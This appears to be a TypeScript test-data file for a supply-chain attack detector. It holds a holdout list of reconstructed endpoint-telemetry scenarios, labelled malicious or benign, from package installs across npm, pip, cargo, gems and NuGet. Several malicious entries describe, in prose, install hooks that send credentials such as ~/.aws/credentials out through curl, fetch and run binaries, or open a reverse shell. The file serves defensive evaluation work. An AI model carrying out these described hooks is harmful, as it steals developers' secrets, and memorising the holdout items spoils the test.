    .proc('cargo', 'maturin', '/Users/ana/.cargo/bin/cargo', ['cargo', 'rustc', '--profile', 'release', '--message-format', 'json-render-diagnostics', '--manifest-path', 'src/rust/Cargo.toml', '--lib'], '/private/var/folders/x1/abc/T/pip-install-q1w2e3r4/cryptography_1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d', 200)
    .dns('cargo', 'index.crates.io', ['198.51.100.70'], 200)
    .net('cargo', '198.51.100.70', 443, 'index.crates.io', 20)
    .dns('cargo', 'static.crates.io', ['198.51.100.71'], 200)
    .net('cargo', '198.51.100.71', 443, 'static.crates.io', 20)
    .proc('rustc', 'cargo', '/Users/ana/.rustup/toolchains/stable-aarch64-apple-darwin/bin/rustc', ['rustc', '--crate-name', 'cryptography_rust', '--edition=2021', 'src/rust/src/lib.rs', '--crate-type', 'cdylib', '-C', 'opt-level=3'], '/private/var/folders/x1/abc/T/pip-install-q1w2e3r4/cryptography_1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d', 3000)
    .proc('cc', 'cargo', '/usr/bin/cc', ['cc', '-O2', '-arch', 'arm64', '-c', 'src/rust/cryptography-cffi/_openssl.c'], '/private/var/folders/x1/abc/T/pip-install-q1w2e3r4/cryptography_1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d', 2000),
);

const h = (file: string, label: 'malicious' | 'benign', formatName: string, s: ReturnType<typeof scenario>, notes: string): Reconstructed => ({ file: `holdout/${label}/${file}`, label, notes: `held-out, reconstructed: ${notes}`, format: format(formatName), scenario: s });

export const HOLDOUT: Reconstructed[] = [
  h('dependency-confusion-recon-linux.audit', 'malicious', 'auditd-raw', depConfusion, 'preinstall of a name-squatted internal package sends hostname, whoami and pwd to an out-of-band host with curl (auditd)'),
  h('pypi-setup-powershell-dropper-windows.ndjson', 'malicious', 'sysmon-winlogbeat', pypiPowershell, 'pip install of a typosquat; setup.py starts hidden PowerShell that downloads and runs an exe (Winlogbeat)'),
  h('npm-systeminfo-upload-windows.json', 'malicious', 'defender-json', npmSysinfo, 'npm preinstall runs systeminfo and ipconfig /all and posts them with curl.exe to port 8080 (Defender JSON)'),
  h('yarn-token-stealer-linux.syslog', 'malicious', 'sysmon-linux-syslog', tokenStealer, 'yarn add of a typosquat; postinstall pipes ~/.npmrc and ~/.aws/credentials through base64 into curl (Sysmon for Linux)'),
  h('crate-build-rs-payload-linux.auoms', 'malicious', 'auoms', crateBuildRs, "a typosquatted crate's build.rs runs id, wget and the fetched binary during cargo test (AUOMS)"),
  h('gem-plugin-post-install-linux.audit', 'malicious', 'auditd-raw', gemPlugin, "bundle install of a gem whose rubygems_plugin.rb post-install hook runs whoami and uname -a, then calls home (auditd)"),
  h('npm-js-reverse-shell-linux.audit', 'malicious', 'auditd-raw', jsReverseShell, 'postinstall node script connects to port 4444 and starts /bin/sh (auditd)'),
  h('nuget-targets-certutil-windows.evtx', 'malicious', 'sysmon-evtx', nugetCertutil, 'dotnet build on a build agent; a package .targets Exec runs certutil -urlcache (native EVTX)'),
  h('pip-hook-systeminfo-windows.xml', 'malicious', 'security-4688-no-command-line', pythonSysinfoNoCmdline, 'setup.py runs systeminfo through os.system (Security 4688 without command lines)'),
  h('pip-wheels-and-sdist-linux.audit', 'benign', 'auditd-raw', pipWheelsSdist, 'pip install numpy and pycurl from sdist in a venv: build isolation, PEP 517 build_wheel, curl-config, gcc (auditd)'),
  h('gem-nokogiri-native-linux.auoms', 'benign', 'auoms', nokogiriGem, 'gem install nokogiri from source: extconf.rb, pkg-config and conftest through sh, make, gcc (AUOMS)'),
  h('puppeteer-browser-download-linux.syslog', 'benign', 'sysmon-linux-syslog', puppeteerSysmonLinux, "npm install puppeteer: postinstall node install.mjs downloads Chrome for Testing by bare IP (Sysmon for Linux)"),
  h('electron-binary-download-windows.xml', 'benign', 'sysmon-event-xml', electronWindows, 'npm install electron: cmd.exe /d /s /c "node install.js" downloads the binary from GitHub releases (Sysmon event XML)'),
  h('dotnet-build-benign-targets-windows.jsonl', 'benign', 'sysmon-evtx-dump-jsonl', dotnetTargets, 'dotnet build with Grpc.Tools (protoc) and Microsoft.TypeScript.MSBuild (node tsc.js) targets and an xcopy Exec (evtx_dump JSON)'),
  h('prisma-engines-and-probes-linux.audit', 'benign', 'auditd-raw', prismaAuditd, "npm ci with prisma: engine download by bare IP, prisma's platform probes (cat /etc/os-release, openssl version, ls /lib), the engine's --version (auditd)"),
  h('pip-cryptography-rust-macos.ndjson', 'benign', 'macos-sensor-ndjson', cryptographyMacos, 'pip install cryptography from source on macOS: maturin, cargo, rustc, cc (Endpoint Security-style observations)'),
];
